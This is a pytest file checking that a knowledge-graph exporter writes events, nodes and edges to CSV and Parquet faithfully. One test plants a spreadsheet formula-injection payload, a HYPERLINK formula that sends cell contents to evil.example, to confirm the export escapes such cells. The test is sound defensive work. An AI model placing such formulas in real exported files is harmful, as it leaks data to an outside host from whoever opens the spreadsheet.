"""kg.export.tables and table_files: CSV that a spreadsheet opens and Parquet, which give every value back."""

import csv
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from pyarrow import parquet

from kg.errors import InputError
from kg.export import export_graph
from kg.export.tables import Table, tables
from kg.graph import build_graph
from kg.model import Extraction
from kg.ontology import load_ontology
from tests.factories import article, disputed_world, entity, event, extraction, small_world
from tests.kg.test_export import nasty_world
from tests.properties.strategies import worlds

World = Callable[[], list[Extraction]]

every_world = pytest.mark.parametrize("make", [small_world, disputed_world, nasty_world, list])


def made(world: list[Extraction]) -> tuple[Table, ...]:
    return tables(build_graph(world, load_ontology()))


def written(folder: Path, suffix: str, world: list[Extraction]) -> dict[str, Path]:
    files = export_graph(build_graph(world, load_ontology()), world, folder / f"graph{suffix}")
    return dict(zip(("events", "nodes", "edges"), files, strict=True))


def cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.reader(file))


def as_cell(value: Any) -> str:
    if value is None or isinstance(value, bool):
        return "" if value is None else str(value).lower()
    text = "; ".join(value) if isinstance(value, list) else str(value)
    return f"'{text}" if isinstance(value, str | list) and text.startswith(("=", "+", "-", "@", "\t", "\r")) else text


def test_the_three_files_lie_beside_each_other(tmp_path: Path) -> None:
    for suffix in (".csv", ".parquet"):
        files = written(tmp_path, suffix, small_world())
        assert [file.name for file in files.values()] == [f"graph{x}{suffix}" for x in ("", ".nodes", ".edges")]
    assert len(list(tmp_path.iterdir())) == 6


@every_world
def test_csv_has_every_value(tmp_path: Path, make: World) -> None:
    files = written(tmp_path, ".csv", make())
    for table in made(make()):
        header, *rows = cells(files[table.name])
        assert header == list(table.columns)
        assert rows == [[as_cell(row.get(name)) for name in table.columns] for row in table.rows]


@every_world
def test_parquet_has_every_value_and_its_type(tmp_path: Path, make: World) -> None:
    files = written(tmp_path, ".parquet", make())
    for table in made(make()):
        read = parquet.read_table(files[table.name])
        assert read.column_names == list(table.columns)
        assert read.to_pylist() == [{name: row.get(name) for name in table.columns} for row in table.rows]


@settings(max_examples=10, deadline=None)
@given(worlds())
def test_parquet_gives_every_graph_back(tmp_path_factory: pytest.TempPathFactory, world: list[Extraction]) -> None:
    files = written(tmp_path_factory.mktemp("tables"), ".parquet", world)
    graph = build_graph(world, load_ontology())
    nodes, edges = (parquet.read_table(files[name]).to_pylist() for name in ("nodes", "edges"))
    assert {row["id"]: given_in(row) for row in nodes} == {id: graph.nodes[id] for id in graph}
    assert {row["id"]: (row.pop("source"), row.pop("target"), given_in(row)) for row in edges} == {
        id: (source, target, data) for source, target, id, data in graph.edges(keys=True, data=True)
    }


def given_in(row: dict[str, Any]) -> dict[str, Any]:
    return {name: value for name, value in row.items() if value is not None}


def test_columns_are_those_of_every_row() -> None:
    for table in made([*disputed_world(), *nasty_world()]):
        assert {name for row in table.rows for name in row} <= table.columns.keys()


def test_an_event_is_told_in_words() -> None:
    events, _, _ = made(small_world())
    row = next(row for row in events.rows if row["places"])
    words = ("actors", "targets", "places", "sources", "urls", "articleIds", "actorIds", "placeIds", "sentence")
    assert [row[name] for name in words] == [
        ["Estmark", "Norland"],
        [],
        ["Port Alder"],
        ["Harbour Gazette"],
        ["https://gazette.example/1"],
        ["gazette-1"],
        ["country/estmark", "country/norland"],
        ["place/port-alder"],
        "Norland and Estmark signed a fisheries agreement in Port Alder.",
    ]


def test_events_come_oldest_first_and_those_without_a_date_last() -> None:
    events, _, _ = made(small_world())
    dates = [str(row.get("date")) for row in events.rows]
    assert dates == sorted(dates)
    assert (dates[0], dates[-1]) == ("1998-01-01", "None")


def test_no_cell_of_a_spreadsheet_is_a_formula(tmp_path: Path) -> None:
    evil = '=HYPERLINK("https://evil.example/?x="&A1)'
    told = article(f"{evil} met @SUM(A1) there.", id="-2+3", title="+1", source="\t=1")
    people = [entity(evil, id="Q1"), entity("@SUM(A1)", id="Q2")]
    world = [extraction(told, people, [event(told, "met", sentence=told.text, actors=people)], mentions=[])]
    found = [cell for file in written(tmp_path, ".csv", world).values() for row in cells(file) for cell in row]
    assert f"'{evil}" in found
    assert [cell for cell in found if cell.startswith(("=", "+", "-", "@", "\t", "\r"))] == []


def test_without_pyarrow_it_is_said_what_to_install(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, "pyarrow", None)
    with pytest.raises(InputError, match=r"pyarrow is needed .*geopolitical-event-graph\[parquet\]"):
        written(tmp_path, ".parquet", small_world())
    assert list(tmp_path.iterdir()) == []


def test_a_table_that_cannot_be_written_leaves_the_others_as_they_were(tmp_path: Path) -> None:
    before = {name: file.read_bytes() for name, file in written(tmp_path, ".csv", small_world()).items()}
    (tmp_path / "graph.edges.csv").unlink()
    (tmp_path / "graph.edges.csv").mkdir()
    with pytest.raises(InputError, match=r"graph\.edges\.csv: the file cannot be written"):
        written(tmp_path, ".csv", [])
    assert (tmp_path / "graph.csv").read_bytes() == before["events"]
    assert (tmp_path / "graph.nodes.csv").read_bytes() == before["nodes"]
    assert len(list(tmp_path.iterdir())) == 3
